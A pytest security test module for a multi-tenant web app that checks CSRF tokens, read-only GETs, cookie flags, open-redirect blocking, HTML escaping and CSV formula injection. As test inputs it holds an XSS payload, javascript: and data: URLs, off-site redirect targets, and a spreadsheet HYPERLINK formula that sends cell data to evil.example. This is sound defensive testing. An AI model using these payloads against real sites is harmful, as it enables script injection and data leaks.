"""The web UI against a hostile visitor (issue 9): CSRF on every unsafe route and on the
public forms, no change by GET, the cookies' flags, redirects that stay on the site, and
user-entered text that tries to become markup (or a spreadsheet formula).

These run on SQLite only: what they check lives in the HTTP layer and the templates, the
same on both databases (the isolation sweep covers both). The tenant is the one
``test_isolation`` builds: the demo plus everything it lacks.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from sqlalchemy import Engine, String, Text, func, select, update

import kopilka.demo as demo
import kopilka.schema
from kopilka.core.actor import Actor
from kopilka.core.db import read_only
from kopilka.core.errors import InvalidInput
from kopilka.events.webhooks import clean_url
from kopilka.ledger.posting import run_transaction
from kopilka.loyalty.cards import update_holder
from tests.security.test_isolation import (
    World,
    _client,
    _dispose,  # noqa: F401  (the module's apps are disposed after it)
    _web_session,
    app_routes,
    fingerprint,
    world_for,
)

PAYLOAD = "<script>alert(1)</script>\"><img src=x onerror=alert(1)>{{7*7}}'"
RAW = ("<script>alert(1)", "<img src=x", '"><img', "onerror=alert(1)>")
# Columns a person types into, set to the payload wherever a tenant's row has one.
TEXT_COLUMNS = {
    "name",
    "full_name",
    "description",
    "holder_name",
    "payer",
    "note",
    "button_text",
    "subject",
    "comment",
    "address",
    "reason",
    "room_description",
    "guest_name",
    "body_text",
    "body_html",
    "email",
    "holder_email",
    "to_addr",
    "url",  # a link built from it must not run script: javascript: below
}


@pytest.fixture
def world(sqlite_engine: Engine) -> World:
    return world_for(sqlite_engine)


# --------------------------------------------------------------------------- CSRF


def _refused_as_csrf(response: httpx.Response) -> bool:
    return response.status_code == 403


def test_every_unsafe_web_route_wants_the_sessions_csrf_token(world: World) -> None:
    owner = next(u for u in demo.DEMO_USERS if u.role == "owner")
    admin = next(u for u in demo.DEMO_USERS if u.role == "administrator")
    victim, victim_csrf = _web_session(world, world.a, "owner", owner.login, owner.password)
    _other, other_csrf = _web_session(world, world.a, "admin", admin.login, admin.password)
    assert victim_csrf != other_csrf
    before = fingerprint(world.engine, world.a.id)
    routes = [r for r in app_routes(world.app) if r.kind == "web" and r.method != "GET"]
    assert len(routes) > 80
    problems = []
    checks = 0
    forged: list[tuple[str, dict[str, Any]]] = [
        ("no token", {}),
        ("another session's token", {"data": {"csrf_token": other_csrf}}),
        ("another session's token in the header", {"headers": {"X-CSRF-Token": other_csrf}}),
        ("an empty token", {"headers": {"X-CSRF-Token": ""}}),
    ]
    for route in routes:
        path = world.fill(route)
        for why, extra in forged:
            kwargs: dict[str, Any] = {"follow_redirects": False, **extra}
            kwargs["data"] = {"name": "forged", "amount": "1", **kwargs.get("data", {})}
            response = victim.request(route.method, path, **kwargs)
            checks += 1
            if not _refused_as_csrf(response):
                problems.append(f"{route.method} {route.path} ({why}) -> {response.status_code}")
    assert fingerprint(world.engine, world.a.id) == before, "a forged request changed A"
    # The session itself still works, and its own token is taken.
    kept = victim.post("/branch", data={"csrf_token": victim_csrf}, follow_redirects=False)
    assert kept.status_code == 303
    print(f"\nCSRF: {len(routes)} unsafe web routes, {checks} forged requests")
    assert not problems, "\n".join(problems)


def test_safe_methods_change_nothing(world: World) -> None:
    """The session cookie goes with any top-level GET from another site (SameSite=Lax), so
    no page may change anything on GET: every GET of the UI, the cabinet and the shop,
    signed in, leaves the tenant's rows as they were."""
    owner = next(u for u in demo.DEMO_USERS if u.role == "owner")
    staff, _csrf = _web_session(world, world.a, "owner", owner.login, owner.password)
    before = fingerprint(world.engine, world.a.id)
    audits = kopilka.schema.metadata.tables["audit_events"]
    with read_only(world.engine) as conn:
        last_audit = conn.execute(
            select(func.max(audits.c.id)).where(audits.c.tenant_id == world.a.id)
        ).scalar()
    fetched = 0
    for route in app_routes(world.app):
        if route.method != "GET" or route.kind == "api" or route.path.startswith("/api/"):
            continue
        response = staff.get(world.fill(route), follow_redirects=False)
        fetched += 1
        assert response.status_code < 500, (route.path, response.status_code)
    after = fingerprint(world.engine, world.a.id)
    # Reading is audited in one place: the loyalty data's export records who took it.
    changed = [t for t in before if before[t] != after[t] and t != "audit_events"]
    with read_only(world.engine) as conn:
        actions = set(
            conn.execute(
                select(audits.c.action).where(
                    audits.c.tenant_id == world.a.id, audits.c.id > last_audit
                )
            ).scalars()
        )
    assert actions <= {"loyalty.export"}, actions
    print(f"\nGET sweep: {fetched} pages")
    assert not changed, f"a GET changed {changed}"


def test_public_forms_carry_their_own_csrf_protection(world: World) -> None:
    slug = world.a.slug
    before = fingerprint(world.engine, world.a.id)
    # Staff sign-in: a double-submit cookie.
    anonymous = _client(world.app)
    response = anonymous.post(
        "/login",
        data={"tenant": slug, "login": "owner", "password": "demo-owner-1"},
        follow_redirects=False,
    )
    assert response.status_code == 403, response.status_code
    # The subscriber's cabinet: its session's token on every POST once signed in.
    cabinet = _client(world.app)
    page = cabinet.get(f"/cabinet/{slug}/login")
    token = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
    assert token
    assert (
        cabinet.post(
            f"/cabinet/{slug}/login",
            data={"account_no": demo.DEMO_SUBSCRIBERS[0], "password": demo.DEMO_CABINET_PASSWORD},
            follow_redirects=False,
        ).status_code
        == 403
    )
    signed = cabinet.post(
        f"/cabinet/{slug}/login",
        data={
            "csrf_token": token.group(1),
            "account_no": demo.DEMO_SUBSCRIBERS[1],
            "password": demo.DEMO_CABINET_PASSWORD,
        },
        follow_redirects=False,
    )
    assert signed.status_code == 303, signed.text[:300]
    for path in ("/promised", "/password", "/language", "/logout"):
        for form in ({}, {"csrf_token": token.group(1)}):  # none, or the sign-in form's
            reply = cabinet.post(
                f"/cabinet/{slug}{path}",
                data={**form, "locale": "en", "service_id": "1", "password": "x"},
                follow_redirects=False,
            )
            assert reply.status_code == 403, (path, form, reply.status_code)
    assert cabinet.get(f"/cabinet/{slug}", follow_redirects=False).status_code == 200
    # The shop's checkout and the sandbox provider's payment page: double-submit cookies.
    shop = _client(world.app)
    type_id = world.values["type_id"]
    assert shop.get(f"/buy/{slug}/{type_id}").status_code == 200
    bought = shop.post(
        f"/buy/{slug}/{type_id}",
        data={"email": "forged@example.ru", "agree": "1"},
        follow_redirects=False,
    )
    assert bought.status_code in (400, 403, 422), bought.status_code
    payment = world.values["payment_id"]
    assert shop.get(f"/sandbox/pay/{payment}").status_code == 200
    paid = shop.post(
        f"/sandbox/pay/{payment}", data={"outcome": "succeeded"}, follow_redirects=False
    )
    assert paid.status_code in (400, 403, 422), paid.status_code
    after = fingerprint(world.engine, world.a.id)
    # The cabinet's sign-in above is recorded (its session, the audit trail); nothing else.
    changed = [
        t for t in before if before[t] != after[t] and t not in ("audit_events", "sub_sessions")
    ]
    assert not changed, changed


def test_cookies_are_http_only_same_site_and_secure_over_tls(world: World) -> None:
    owner = next(u for u in demo.DEMO_USERS if u.role == "owner")
    for base, secure in (("http://testserver", False), ("https://testserver", True)):
        client = _client(world.app)
        client.base_url = httpx.URL(base)
        form = client.get("/login")
        token = re.search(r'name="csrf_token" value="([^"]+)"', form.text)
        assert token
        login_cookie = form.headers["set-cookie"].lower()
        assert "httponly" in login_cookie and "samesite=strict" in login_cookie
        response = client.post(
            "/login",
            data={
                "csrf_token": token.group(1),
                "tenant": world.a.slug,
                "login": owner.login,
                "password": owner.password,
            },
            follow_redirects=False,
        )
        assert response.status_code == 303
        cookies = response.headers.get_list("set-cookie")
        session = next(c for c in cookies if c.startswith("kopilka_session="))
        flags = [f.strip().lower() for f in session.split(";")]
        assert "httponly" in flags and "samesite=lax" in flags and "path=/" in flags
        assert ("secure" in flags) is secure, session
        for cookie in cookies:
            if "max-age=0" in cookie.lower():
                continue  # a cookie taken away
            assert "httponly" in cookie.lower() or cookie.startswith("kopilka_locale="), cookie


# --------------------------------------------------------------------------- escaping


def _make_hostile(engine: Engine, tenant_id: int) -> int:
    """Every user-entered text column of the tenant's rows (where a row may change) set to
    the payload; how many columns took it."""
    changed = 0
    for table in kopilka.schema.metadata.sorted_tables:
        if "tenant_id" not in table.c and table.name != "tenants":
            continue
        where = table.c.id == tenant_id if table.name == "tenants" else None
        for column in table.c:
            if column.name not in TEXT_COLUMNS or not isinstance(column.type, String | Text):
                continue
            length = getattr(column.type, "length", None)
            value = ("javascript:alert(1)//" if column.name == "url" else "") + PAYLOAD
            if length is not None and length < len(value) + 8:
                value = None
            if value is None:
                continue
            condition = where if where is not None else table.c.tenant_id == tenant_id
            try:
                with engine.begin() as conn:
                    # Unique names stay unique: the row's id after the payload.
                    key = table.c.id if "id" in table.c else None
                    new = value + "-" + key.cast(String) if key is not None else value
                    done = conn.execute(
                        update(table).where(condition, column.isnot(None)).values({column: new})
                    )
                    changed += 1 if done.rowcount else 0
            except Exception:  # noqa: S112 - append-only tables refuse UPDATE
                continue
    return changed


def _unescaped(html: str) -> list[str]:
    found = [raw for raw in RAW if raw in html]
    if re.search(r"""(href|src|action)\s*=\s*["']?\s*javascript:""", html, flags=re.I):
        found.append("a javascript: link")
    # CSP allows no inline script: every script tag loads a file and has no body.
    for match in re.finditer(r"<script\b([^>]*)>(.*?)</script>", html, flags=re.S | re.I):
        if "src=" not in match.group(1) or match.group(2).strip():
            found.append(f"inline script {match.group(0)[:80]!r}")
    if re.search(r"(?<![0-9])49-\d", html):  # {{7*7}} evaluated as a template
        found.append("a template expression evaluated")
    return found


def test_user_entered_text_is_escaped_everywhere(world: World) -> None:
    engine = world.engine
    owner = next(u for u in demo.DEMO_USERS if u.role == "owner")
    staff, csrf = _web_session(world, world.a, "owner", owner.login, owner.password)
    # Through the real doors: the API, a form, and a URL the link would be built from.
    api = _client(world.app, Authorization=f"Bearer {world.a_tokens['owner']}")
    made = api.post(
        "/api/v1/hotel/guests", json={"full_name": PAYLOAD, "email": "guest@example.ru"}
    )
    assert made.status_code == 201, made.text
    assert made.headers["content-type"].startswith("application/json")
    added = staff.post(
        "/settings/branches",
        data={"csrf_token": csrf, "name": PAYLOAD + "-form"},
        follow_redirects=False,
    )
    assert added.status_code in (200, 303), added.status_code
    for url in ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>"):
        with pytest.raises(InvalidInput):
            clean_url(url)
    assert _make_hostile(engine, world.a.id) >= 20
    with read_only(engine) as conn:
        tenant_name = conn.execute(
            select(kopilka.schema.metadata.tables["tenants"].c.name).where(
                kopilka.schema.metadata.tables["tenants"].c.id == world.a.id
            )
        ).scalar_one()
    assert tenant_name.startswith(PAYLOAD)

    cabinet = _client(world.app)
    page = cabinet.get(f"/cabinet/{world.a.slug}/login")
    token = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
    assert token
    cabinet.post(
        f"/cabinet/{world.a.slug}/login",
        data={
            "csrf_token": token.group(1),
            "account_no": demo.DEMO_SUBSCRIBERS[1],
            "password": demo.DEMO_CABINET_PASSWORD,
        },
    )
    pages = 0
    shown = 0
    problems = []
    for route in app_routes(world.app):
        if route.method != "GET" or route.path.startswith("/api/"):
            continue
        if route.kind == "api" or route.path in ("/metrics", "/healthz", "/readyz"):
            continue
        if route.path.startswith("/farcards"):
            continue
        client = cabinet if route.path.startswith("/cabinet") else staff
        path = world.fill(route)
        for headers in ({}, {"HX-Request": "true"}):
            response = client.get(path, params={"q": PAYLOAD}, headers=headers)
            pages += 1
            body = response.text
            shown += "alert(1)" in body
            if found := _unescaped(body):
                problems.append(f"{route.path} {headers}: {response.status_code} {found}")
    # Text in the address itself: error pages and the public pages' own slugs.
    for path in ("/cards/{}", "/nowhere/{}", "/cabinet/{}/login", "/buy/{}/1", "/sandbox/pay/{}"):
        for client in (staff, _client(world.app)):
            response = client.get(path.format(quote(PAYLOAD, safe="")))
            pages += 1
            if found := _unescaped(response.text):
                problems.append(f"{path} {response.status_code}: {found}")
    print(f"\nescaping: {pages} page fetches, {shown} of them showing the payload")
    assert shown > 40, "the payload should show on many pages"
    assert not problems, "\n".join(problems)


def test_links_never_lead_off_the_site(world: World) -> None:
    owner = next(u for u in demo.DEMO_USERS if u.role == "owner")
    for target in ("javascript:alert(1)", "//evil.example/", "https://evil.example/", "/\\evil"):
        client = _client(world.app)
        response = client.post(
            "/language", data={"locale": "en", "next": target}, follow_redirects=False
        )
        assert response.headers["location"] == "/", (target, response.headers["location"])
        form = client.get("/login", params={"next": target})
        token = re.search(r'name="csrf_token" value="([^"]+)"', form.text)
        assert token
        signed = client.post(
            "/login",
            data={
                "csrf_token": token.group(1),
                "tenant": world.a.slug,
                "login": owner.login,
                "password": owner.password,
                "next": target,
            },
            follow_redirects=False,
        )
        assert signed.headers["location"] == "/", (target, signed.headers["location"])


def test_report_downloads_do_not_start_formulas(world: World) -> None:
    """A holder named like a formula is text in the CSV a manager opens in a spreadsheet
    (CSV injection); XLSX cells are strings already."""
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
    actor = Actor.cli("hostile")
    card_id = int(world.values["card_id"])
    run_transaction(
        world.engine,
        lambda conn: update_holder(
            conn,
            tenant_id=world.a.id,
            card_id=card_id,
            name=formula,
            phone=None,
            email=None,
            actor=actor,
        ),
    )
    owner = next(u for u in demo.DEMO_USERS if u.role == "owner")
    staff, _csrf = _web_session(world, world.a, "owner", owner.login, owner.password)
    api = _client(world.app, Authorization=f"Bearer {world.a_tokens['owner']}")
    downloads = [
        staff.get("/reports/cards", params={"format": "csv"}),
        api.get(
            "/api/v1/loyalty/reports/balances",
            params={"format": "csv", "from": str(date.today()), "to": str(date.today())},
        ),
    ]
    for response in downloads:
        assert response.status_code == 200, response.text[:300]
        rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff")), delimiter=";"))
        texts = [cell for row in rows[1:] for cell in row[:5]]  # the text columns
        assert "'" + formula in texts, texts[:12]
        assert not [cell for cell in texts if cell.startswith(("=", "+", "-", "@"))]
